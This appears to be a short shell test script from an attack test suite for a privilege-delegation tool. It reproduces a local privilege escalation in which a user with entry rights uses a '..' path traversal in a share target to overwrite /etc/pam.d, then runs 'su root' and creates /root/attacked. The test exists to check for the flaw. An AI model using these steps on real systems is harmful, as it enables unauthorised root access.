#!/bin/sh
# Somebody who may enter, without sudo, becomes root: `..` in the target of a share
. /opt/e2e/attacks-original/common
case $AU_SIDE in
original) must usermod -aG su-as-agent carol ;;
*) must as alice au grant -y carol ;;
esac
must enter carol -- true
su_for_all /home/carol/pam
chown -R carol /home/carol/pam
enter carol /home/carol/pam ../../etc/pam.d -- su root -c 'touch /root/attacked'
succeeded test -e /root/attacked
